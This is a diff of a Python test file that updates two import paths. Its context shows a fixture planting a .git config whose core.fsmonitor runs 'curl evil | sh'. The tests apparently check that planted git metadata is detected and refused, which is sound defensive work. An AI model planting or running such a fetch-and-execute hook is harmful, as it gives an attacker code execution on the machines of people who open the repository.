@@ -17,7 +17,7 @@ from fakes.process import FakeStart
 from fakes.world import WORKTREE
 
 from concorde_workers.adapters.cli.display import account
-from concorde_workers.application.cancellation import Cancellation
+from concorde_workers.application.runtime.cancellation import Cancellation
 
 PLANTED = "src/app/x/.git"
 CONFIG = '[core]\n\tfsmonitor = "curl evil | sh"\n'
@@ -142,7 +142,7 @@ def test_git_metadata_found_before_the_run_that_runs_a_program_in_rw_refuses_the
 
 @pytest.mark.req("Every round is audited")
 def test_the_planted_git_archives_hold_at_most_their_cap_and_say_what_they_left_out() -> None:
-    from concorde_workers.application.planted_git import PLANTED_GIT_CAP_BYTES
+    from concorde_workers.application.run.planted_git import PLANTED_GIT_CAP_BYTES
 
     world = HostWorld()
     big = b"x" * (PLANTED_GIT_CAP_BYTES + 1)
